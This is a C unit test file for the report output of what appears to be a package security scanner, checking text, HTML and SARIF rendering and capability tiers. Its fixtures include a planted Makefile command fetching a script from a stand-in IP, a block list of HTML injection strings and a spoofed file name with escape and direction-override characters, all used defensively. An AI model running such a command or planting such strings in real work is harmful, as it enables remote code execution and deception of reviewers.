/* The report and its faces: whole, bounded, and nothing in them that a package could act through.
 */
#include "unit.h"

#include <string.h>
#include <utf8proc.h>

#include "base/cleanup.h"
#include "base/json.h"
#include "base/text.h"
#include "sample.h"

static void for_each(void (*check)(const char *name, const json_t *report))
{
    for (size_t i = 0; sample_names[i]; i++) {
        aq_auto_json json_t *report = sample_report(sample_names[i]);
        assert_non_null(report);
        check(sample_names[i], report);
    }
}

static const char *verdict_of(const char *name)
{
    aq_auto_json json_t *report = sample_report(name);
    const char *verdict = aq_json_str(report, "verdict");

    for (aq_verdict v = AQ_PASS; v <= AQ_INCONCLUSIVE; v++)
        if (strcmp(aq_verdict_name(v), verdict) == 0)
            return aq_verdict_name(v);
    return NULL;
}

static void verdicts(void **state)
{
    (void)state;
    assert_string_equal(verdict_of("plain"), "inconclusive");
    assert_string_equal(verdict_of("pass"), "pass");
    assert_string_equal(verdict_of("reject"), "reject");
    assert_null(sample_report("no such"));
}

static void check_checklist(const char *name, const json_t *report)
{
    const json_t *list = json_object_get(report, "checklist"), *row;
    size_t i, n = json_array_size(list);

    assert_true(n >= 1 && n <= AQ_CHECKLIST);
    json_array_foreach (list, i, row) {
        assert_non_null(aq_json_str(row, "risk"));
        assert_true(strlen(aq_json_str(row, "text")) > 0);
    }
    /* The last line always says what the package is made of. */
    row = json_array_get(list, n - 1);
    assert_string_equal(aq_json_str(row, "risk"), "share");
    for (size_t w = 0; w < 3; w++) {
        static const char *const words[] = {"generated", "vendored", "minified"};
        if (!strstr(aq_json_str(row, "text"), words[w]))
            fail_msg("%s: the checklist does not state the share that is %s", name, words[w]);
    }
}

static void checklists(void **state)
{
    (void)state;
    for_each(check_checklist);
}

static size_t risk_rank(const char *risk)
{
    static const char *const order[] = {"reject", "review", "unread", "look", "share"};
    size_t i = 0;

    while (i < 5 && strcmp(order[i], risk) != 0)
        i++;
    return i;
}

static void the_checklist_is_ranked(void **state)
{
    aq_auto_json json_t *report = sample_report("planted");
    const json_t *row;
    size_t i, last = 0, looks = 0;

    (void)state;
    json_array_foreach (json_object_get(report, "checklist"), i, row) {
        size_t rank = risk_rank(aq_json_str(row, "risk"));
        assert_true(rank < 5 && rank >= last);
        last = rank;
        looks += rank == 3;
    }
    assert_true(looks >= 1); /* a flood of findings leaves the planted line its place */
    row = json_array_get(json_object_get(report, "checklist"), 0);
    assert_non_null(strstr(aq_json_str(row, "text"), "137 times")); /* one line for them all */
}

static void check_width(const char *name, const json_t *report)
{
    static const unsigned widths[] = {40, 80, 132};

    for (size_t i = 0; i < 6; i++) {
        aq_text_options o = {.width = widths[i % 3], .verbose = i >= 3};
        aq_auto_buf out = {0};
        unsigned column = 0;
        aq_report_text(report, &o, &out);
        assert_true(aq_utf8_valid(out.data, out.len));
        const unsigned char *p = (unsigned char *)out.data, *end = p + out.len;
        while (p < end) {
            int32_t c = aq_utf8_next(&p, end);
            assert_true(c == '\n' || (c >= 0x20 && c != 0x7f && !(c >= 0x80 && c < 0xa0)));
            assert_false(aq_text_hidden(c));
            column = c == '\n' ? 0 : column + (unsigned)utf8proc_charwidth(c);
            if (column > o.width)
                fail_msg("%s: a line is wider than %u", name, o.width);
        }
    }
}

static void text_keeps_its_width(void **state)
{
    (void)state;
    for_each(check_width);
}

static void cut_at_line(aq_buf *text, unsigned lines)
{
    char *p = text->data;

    while (lines-- && p)
        p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL;
    if (p)
        *p = 0;
}

static void the_first_screen_has_the_planted_line(void **state)
{
    aq_auto_json json_t *report = sample_report("planted");
    aq_text_options o = {.width = 80};
    aq_auto_buf out = {0};
    char *look;

    (void)state;
    aq_report_text(report, &o, &out);
    cut_at_line(&out, 24);
    assert_non_null(strstr(out.data, "INCONCLUSIVE"));
    assert_non_null(strstr(out.data, " share ")); /* the whole checklist is there */
    look = strstr(out.data, " look ");
    assert_non_null(look);
    assert_non_null(strstr(look, "module-3141/Makefile:5"));
    assert_non_null(strstr(look, "curl -s http://203.0.113.9/i.sh"));
}

static void colour_only_if_asked(void **state)
{
    aq_auto_json json_t *report = sample_report("reject");
    aq_text_options plain = {.width = 80}, bright = {.width = 80, .colour = true};
    aq_auto_buf a = {0}, b = {0};

    (void)state;
    aq_report_text(report, &plain, &a);
    aq_report_text(report, &bright, &b);
    assert_null(strchr(a.data, '\x1b'));
    assert_non_null(strstr(b.data, "\x1b[1;31mREJECT\x1b[0m"));
}

static void check_html(const char *name, const json_t *report)
{
    static const char *const never[] = {"<script",     "<img",    "<iframe",    "<link",
                                        "javascript:", " style=", "http://www", "url(",
                                        "@import",     "<form"};
    aq_auto_buf out = {0};

    aq_report_html(report, &out);
    assert_true(aq_utf8_valid(out.data, out.len));
    for (size_t i = 0; i < sizeof never / sizeof *never; i++)
        if (strstr(out.data, never[i]))
            fail_msg("%s: %s is in the HTML", name, never[i]);
    assert_non_null(strstr(out.data, "default-src 'none'; style-src 'sha256-"));
}

static void html_is_inert(void **state)
{
    (void)state;
    for_each(check_html);
}

static const json_t *run_of(const json_t *sarif)
{
    return json_array_get(json_object_get(sarif, "runs"), 0);
}

static void sarif_locations(void **state)
{
    aq_auto_json json_t *report = sample_report("hostile");
    aq_auto_json json_t *sarif = aq_report_sarif(report);
    const json_t *result;
    bool odd = false, raw = false;
    size_t i;

    (void)state;
    json_array_foreach (json_object_get(run_of(sarif), "results"), i, result) {
        const json_t *place = json_object_get(
            json_array_get(json_object_get(result, "locations"), 0), "physicalLocation");
        const char *uri = aq_json_str(json_object_get(place, "artifactLocation"), "uri");
        if (!uri)
            continue;
        odd = odd || strcmp(uri, "dir%20name/100%25/a%3Ab%3F%23%C3%BC.md") == 0;
        raw = raw || strstr(uri, "%1B%5B31m%E2%80%AEfdp.exe%E2%80%8B%FF%0A");
        assert_null(strpbrk(uri, "<>\"\\ :?#"));
        assert_true(json_object_get(place, "region") == NULL || raw);
    }
    assert_true(odd && raw);
}

static void sarif_says_what_did_not_run(void **state)
{
    aq_auto_json json_t *plain = sample_report("plain"), *whole = sample_report("pass");
    aq_auto_json json_t *a = aq_report_sarif(plain), *b = aq_report_sarif(whole);
    const json_t *x = json_array_get(json_object_get(run_of(a), "invocations"), 0);
    const json_t *y = json_array_get(json_object_get(run_of(b), "invocations"), 0);

    (void)state;
    assert_true(json_is_false(json_object_get(x, "executionSuccessful")));
    assert_int_equal(json_array_size(json_object_get(x, "toolExecutionNotifications")), 4);
    assert_true(json_is_true(json_object_get(y, "executionSuccessful")));
    assert_int_equal(json_array_size(json_object_get(y, "toolExecutionNotifications")), 0);
    assert_int_equal(json_array_size(json_object_get(
                         json_object_get(json_object_get(run_of(a), "tool"), "driver"), "rules")),
                     AQ_RULE_COUNT);
}

static void fingerprints_differ_and_stay(void **state)
{
    aq_auto_json json_t *report = sample_report("flood");
    aq_auto_json json_t *one = aq_report_sarif(report), *two = aq_report_sarif(report);
    aq_auto_json json_t *seen = json_object();
    const json_t *result;
    size_t i;

    (void)state;
    assert_true(json_equal(one, two));
    json_array_foreach (json_object_get(run_of(one), "results"), i, result) {
        const char *print =
            aq_json_str(json_object_get(result, "partialFingerprints"), "aquariumFinding/v1");
        assert_non_null(print);
        assert_null(json_object_get(seen, print));
        json_object_set_new(seen, print, json_true());
    }
}

static void tier_is(aq_publisher_tier publisher, aq_capability group, const char *pattern,
                    const char *want)
{
    aq_submission s = {.tier = publisher};
    aq_manifest m = {.kind = AQ_KIND_SKILL, .declared = {.present = group < AQ_CAP_COUNT}};
    const char *why = NULL;

    if (pattern)
        m.declared.group[group] = (aq_cap_group){.present = true, .patterns = &pattern, .count = 1};
    assert_string_equal(aq_tier_wanted(&s, &m, &why), want);
    assert_true(why && *why);
}

static void tiers(void **state)
{
    (void)state;
    tier_is(AQ_TIER_LOCAL, AQ_CAP_CLOCK, NULL, "t0");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_FS_READ, "~/a", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "api.example.com", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*.example.com", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*.com", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_SHELL, "git *", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_COUNT, NULL, "t1"); /* nothing was said */
    tier_is(AQ_TIER_NEW, AQ_CAP_CLOCK, NULL, "t2");
    tier_is(AQ_TIER_IDENTIFIED, AQ_CAP_CLOCK, NULL, "t2");
    tier_is(AQ_TIER_PROVEN, AQ_CAP_CLOCK, NULL, "t1");
    tier_is(AQ_TIER_TRUSTED, AQ_CAP_SHELL, "*", "t2");
    tier_is(AQ_TIER_STEWARD, AQ_CAP_CLOCK, NULL, "t0");
}

static void unread_is_on_the_list(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    const aq_unread unread = {.place = "big.bin", .reason = "budget unpacked-bytes", .bytes = 9};
    const json_t *row;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.package.unread = &unread;
    s.package.unread_count = 1;
    aq_findings_add_incomplete(s.findings, sample_rule(AQ_INFO, 0), "half.gz", "ends too early");
    report = sample_finish(&s);
    row = json_array_get(json_object_get(report, "checklist"), 0);
    assert_string_equal(aq_json_str(row, "risk"), "unread");
    assert_string_equal(aq_json_str(row, "file"), "big.bin");
    row = json_array_get(json_object_get(report, "checklist"), 1);
    assert_string_equal(aq_json_str(row, "risk"), "unread");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(verdicts),
        cmocka_unit_test(checklists),
        cmocka_unit_test(the_checklist_is_ranked),
        cmocka_unit_test(text_keeps_its_width),
        cmocka_unit_test(the_first_screen_has_the_planted_line),
        cmocka_unit_test(colour_only_if_asked),
        cmocka_unit_test(html_is_inert),
        cmocka_unit_test(sarif_locations),
        cmocka_unit_test(sarif_says_what_did_not_run),
        cmocka_unit_test(fingerprints_differ_and_stay),
        cmocka_unit_test(tiers),
        cmocka_unit_test(unread_is_on_the_list),
    };

    return cmocka_run_group_tests_name("report", tests, NULL, NULL);
}
